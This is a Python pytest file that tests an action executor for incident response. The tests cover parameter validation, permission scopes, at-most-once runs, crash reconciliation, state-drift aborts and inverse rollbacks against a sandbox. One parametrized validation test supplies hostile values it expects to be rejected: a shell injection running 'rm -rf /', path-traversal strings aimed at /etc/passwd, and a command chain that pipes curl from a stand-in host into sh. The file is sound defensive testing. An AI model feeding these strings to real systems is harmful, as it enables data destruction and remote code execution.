"""The executor, the only door to side effects: validation, scopes, at-most-once runs, crash reconciliation,
re-observation before acting, and the inverse after a failed verification. Real store, real sandbox."""

from __future__ import annotations

from datetime import timedelta

import pytest
from pydantic import JsonValue

from actiondesk.actions.catalog import Catalog, Pack
from actiondesk.actions.executor import Executor
from actiondesk.actions.packs import builtin_packs
from actiondesk.actions.packs.deployments import (
    ListDeploymentsOutput,
    RollbackDeployment,
    RollbackInput,
    RollbackOutput,
)
from actiondesk.actions.spec import ActionContext
from actiondesk.adapters.sandbox import DEFAULT_START, DeployEvent, DeployKind, SandboxEstate, default_estate
from actiondesk.adapters.store import SqlStore
from actiondesk.core.audit import AuditKind
from actiondesk.core.case import Case, CaseKind
from actiondesk.core.clock import SimulatedClock
from actiondesk.core.errors import (
    ActionFailedError,
    InvalidParametersError,
    ScopeError,
    StateDriftError,
    UnknownActionError,
)
from actiondesk.core.plan import ActionCall
from actiondesk.core.runs import ActionRun, RunStatus

ROLLBACK = ActionCall(
    action="rollback_deployment",
    params={"service": "payment-gateway", "to_version": "v2.4.1", "from_version": "v2.5.0", "reason": "test"},
)


class NeverVerifiedRollback(RollbackDeployment):
    """Test only: a rollback whose verification always says it did not take."""

    name = "rollback_never_verified"
    pack = "testing"

    def verify(self, ctx: ActionContext, params: RollbackInput, output: RollbackOutput) -> str | None:
        return "the test's verification always fails"


class UndoFailsRollback(NeverVerifiedRollback):
    """Test only: verification fails, and the inverse names a version that was never deployed."""

    name = "rollback_undo_fails"

    def inverse(self, snapshot: dict[str, JsonValue], params: RollbackInput) -> ActionCall | None:
        return ActionCall(action=self.name, params={"service": params.service, "to_version": "v0.0.1"})


TESTING = Pack(
    name="testing", scopes=frozenset({"deployments:write"}), actions=(NeverVerifiedRollback(), UndoFailsRollback())
)


class Bench:
    """An executor over the store and a sandbox where payment-gateway v2.5.0 has just gone out."""

    def __init__(self, store: SqlStore, catalog: Catalog | None = None) -> None:
        self.store = store
        self.clock = SimulatedClock(DEFAULT_START)
        self.estate = SandboxEstate(default_estate(DEFAULT_START), self.clock)
        self.estate.apply(DeployEvent(service="payment-gateway", version="v2.5.0", commit="9f3c2ab"))
        self.clock.advance(120)
        ctx = ActionContext(inventory=self.estate, telemetry=self.estate, deployer=self.estate, clock=self.clock)
        self.executor = Executor(catalog or Catalog([*builtin_packs(), TESTING]), ctx, store, "actiondesk")
        now = self.clock.now()
        case = Case(
            id="C-exec", kind=CaseKind.INCIDENT, title="t", text="t", reporter="alice", created_at=now, updated_at=now
        )
        with store.transaction() as uow:
            self.case = uow.add_case(case)

    def execute(self, call: ActionCall = ROLLBACK, key: str = "C-exec/step-0"):
        return self.executor.execute(call, case_id=self.case.id, key=key)

    def rollbacks(self) -> list[str]:
        return [
            d.version
            for d in self.estate.state.deployments
            if d.service == "payment-gateway" and d.kind is DeployKind.ROLLBACK
        ]

    def kinds(self) -> list[AuditKind]:
        return [e.kind for e in self.store.audit(self.case.id)]


@pytest.fixture
def bench(store: SqlStore) -> Bench:
    return Bench(store)


def test_unknown_action_is_refused_naming_the_catalog(bench: Bench) -> None:
    with pytest.raises(UnknownActionError) as caught:
        bench.execute(ActionCall(action="delete_namespace", params={"namespace": "prod"}))

    message = str(caught.value)
    assert "delete_namespace" in message
    assert "rollback_deployment" in message
    assert "get_error_rate" in message
    assert bench.store.runs(bench.case.id) == []


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({**ROLLBACK.params, "force": True}, "force"),  # an extra field is an error, not silently dropped
        ({**ROLLBACK.params, "service": "prod; rm -rf /"}, "service"),  # shell metacharacters
        ({**ROLLBACK.params, "service": "../../etc"}, "service"),  # path traversal
        ({**ROLLBACK.params, "to_version": "../../etc/passwd"}, "to_version"),
        ({**ROLLBACK.params, "to_version": "v1 && curl evil.example | sh"}, "to_version"),
        ({"service": "payment-gateway"}, "to_version"),  # missing
        ({**ROLLBACK.params, "reason": "x" * 501}, "reason"),
    ],
    ids=["extra-field", "shell", "traversal-service", "traversal-version", "command-chain", "missing", "too-long"],
)
def test_invalid_parameters_are_refused_before_anything_is_claimed(
    bench: Bench, params: dict[str, JsonValue], field: str
) -> None:
    with pytest.raises(InvalidParametersError) as caught:
        bench.execute(ActionCall(action="rollback_deployment", params=params))

    assert field in str(caught.value)
    assert bench.store.runs(bench.case.id) == []
    assert AuditKind.ACTION_STARTED not in bench.kinds()
    assert bench.rollbacks() == []


def test_a_pack_without_the_write_scope_cannot_roll_back(store: SqlStore) -> None:
    bench = Bench(store, Catalog(builtin_packs(), {"deployments": ["deployments:read"]}))

    with pytest.raises(ScopeError) as caught:
        bench.execute()

    assert "deployments:write" in str(caught.value)
    assert bench.store.runs(bench.case.id) == []
    assert bench.rollbacks() == []
    listed = bench.executor.probe(ActionCall(action="list_deployments", params={"service": "payment-gateway"}), None)
    assert listed.summary().startswith("4 deployments"), "reading is still granted"


def test_the_same_key_twice_runs_once_and_replays(bench: Bench) -> None:
    first = bench.execute()
    second = bench.execute()

    assert (first.succeeded, first.replayed) == (True, False)
    assert (second.succeeded, second.replayed) == (True, True)
    assert second.run == first.run
    assert bench.rollbacks() == ["v2.4.1"]
    assert bench.kinds().count(AuditKind.ACTION_STARTED) == 1
    assert bench.kinds().count(AuditKind.ACTION_RESULT) == 1


def test_a_key_reused_for_a_different_call_is_not_taken_for_a_replay(bench: Bench) -> None:
    bench.execute()
    other = ActionCall(action="rollback_deployment", params={**ROLLBACK.params, "to_version": "v2.3.9"})

    with pytest.raises(ActionFailedError, match="already belongs to"):
        bench.execute(other)
    assert bench.rollbacks() == ["v2.4.1"]


def claim_by_hand(bench: Bench, key: str = "C-exec/step-0") -> None:
    """What a process leaves behind when it dies right after claiming the run."""
    run = ActionRun(
        key=key,
        case_id=bench.case.id,
        action=ROLLBACK.action,
        params=dict(ROLLBACK.params),
        started_at=bench.clock.now(),
    )
    with bench.store.transaction() as uow:
        _, created = uow.claim_run(run)
    assert created


def test_a_run_that_reached_the_system_before_the_crash_is_reconciled_not_repeated(bench: Bench) -> None:
    claim_by_hand(bench)
    bench.estate.rollback("payment-gateway", "v2.4.1", reason="the side effect happened, then the process died")
    bench.clock.advance(5)

    execution = bench.execute()

    assert execution.succeeded
    assert not execution.replayed
    assert execution.run.result is not None
    assert execution.run.result["reconciled"] is True
    assert bench.rollbacks() == ["v2.4.1"], "no second rollback"
    (run,) = bench.store.runs(bench.case.id)
    assert run.status is RunStatus.SUCCEEDED


def test_a_run_claimed_but_never_performed_runs_once(bench: Bench) -> None:
    claim_by_hand(bench)

    execution = bench.execute()
    again = bench.execute()

    assert execution.succeeded
    assert execution.run.result is not None
    assert "reconciled" not in execution.run.result
    assert again.replayed
    assert bench.rollbacks() == ["v2.4.1"]


def test_drift_between_plan_and_execution_aborts_and_records_why(bench: Bench) -> None:
    bench.estate.apply(DeployEvent(service="payment-gateway", version="v2.5.1", commit="5e5e5e5", author="erin"))
    bench.clock.advance(30)

    with pytest.raises(StateDriftError) as caught:
        bench.execute()

    assert "v2.5.1" in str(caught.value)
    (run,) = bench.store.runs(bench.case.id)
    assert run.status is RunStatus.FAILED
    assert run.error is not None
    assert run.error.startswith("state drift:")
    assert "v2.5.1" in run.error
    assert bench.rollbacks() == []
    assert bench.estate.service("payment-gateway").version == "v2.5.1", "the newer deploy is left alone"


def test_a_failed_verification_runs_the_inverse(bench: Bench) -> None:
    call = ActionCall(action="rollback_never_verified", params=dict(ROLLBACK.params))

    execution = bench.execute(call)

    run = execution.run
    assert run.status is RunStatus.ROLLED_BACK
    assert run.error == "the test's verification always fails"
    assert run.snapshot is not None
    assert run.snapshot["version"] == "v2.5.0"
    assert run.result is not None
    assert run.result["inverse"] == {
        "service": "payment-gateway",
        "to_version": "v2.5.0",
        "from_version": "v2.4.1",
        "reason": "undo rollback of payment-gateway to v2.4.1",
    }
    assert bench.rollbacks() == ["v2.4.1", "v2.5.0"], "the action, then its inverse"
    assert bench.estate.service("payment-gateway").version == "v2.5.0"
    assert bench.store.runs(bench.case.id)[0].status is RunStatus.ROLLED_BACK


def test_a_failing_inverse_leaves_the_run_failed_not_started(bench: Bench) -> None:
    call = ActionCall(action="rollback_undo_fails", params=dict(ROLLBACK.params))

    execution = bench.execute(call)

    run = execution.run
    assert run.status is RunStatus.FAILED
    assert run.error is not None
    assert "verification always fails" in run.error
    assert "v0.0.1" in run.error
    assert bench.store.runs(bench.case.id)[0].status is RunStatus.FAILED
    assert bench.rollbacks() == ["v2.4.1"]
    # A resumed worker must not reconcile it as a success from the live version.
    bench.clock.advance(timedelta(minutes=1).total_seconds())
    assert bench.execute(call).replayed


def test_a_typed_probe_returns_the_actions_output_model(bench: Bench) -> None:
    call = ActionCall(action="list_deployments", params={"service": "payment-gateway"})

    listed = bench.executor.probe_as(call, bench.case.id, ListDeploymentsOutput)

    assert [d.version for d in listed.deployments][:1] == ["v2.5.0"]
    assert bench.kinds().count(AuditKind.OBSERVATION) == 1


def test_a_typed_probe_for_another_output_model_is_refused_before_it_runs(bench: Bench) -> None:
    call = ActionCall(action="list_deployments", params={"service": "payment-gateway"})

    with pytest.raises(ActionFailedError, match="returns ListDeploymentsOutput, not RollbackOutput"):
        bench.executor.probe_as(call, bench.case.id, RollbackOutput)

    assert AuditKind.OBSERVATION not in bench.kinds()
